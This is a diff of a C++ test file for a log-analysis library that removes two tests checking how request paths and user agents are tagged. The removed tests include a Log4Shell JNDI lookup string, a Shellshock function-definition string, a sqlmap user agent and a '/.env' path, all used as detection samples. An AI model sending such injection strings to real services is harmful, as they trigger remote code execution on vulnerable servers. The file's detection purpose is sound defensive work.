@@ -34,30 +34,5 @@ TEST(TagsTest, MissingTextsAreZero) {
   }
 }
 
-TEST(TagsTest, APathsBitsAreBesideItsHash) {
-  struct Example {
-    std::string_view path;
-    KeyTag bits;
-  };
-  for (const Example& example :
-       {Example{"/", 0}, Example{"/a/b.css", kStaticPath}, Example{"/.env", kSensitivePath}, Example{"/a'b", kOddPath},
-        Example{"/wp-login.php", kLoginPath}, Example{"/favicon.ico", kStaticPath | kUnbiddenPath}}) {
-    const KeyTag tag = PathTag(example.path);
-    EXPECT_EQ(tag & kPathBits, example.bits) << example.path;
-    EXPECT_EQ(HashOfPathTag(tag), PathHash(example.path)) << example.path;
-    EXPECT_NE(HashOfPathTag(tag), PathHash("/other")) << example.path;
-  }
-}
-
-TEST(TagsTest, AnAgentsKindIsBesideItsHash) {
-  const KeyTag scanner = AgentTag("sqlmap/1.8.2#stable (https://sqlmap.org)");
-  EXPECT_EQ(KindOfAgentTag(scanner), AgentKind::kScanner);
-  EXPECT_EQ(scanner & kAttackingAgent, 0U);
-  const KeyTag attack = AgentTag("${jndi:ldap://192.0.2.9/a}");
-  EXPECT_NE(attack & kAttackingAgent, 0U);
-  EXPECT_EQ(HashOfAgentTag(attack), static_cast<uint32_t>(SketchHash("${jndi:ldap://192.0.2.9/a}")));
-  EXPECT_NE(AgentTag("() { :; }; /bin/true") & kAttackingAgent, 0U);
-}
-
 }  // namespace
 }  // namespace logstat
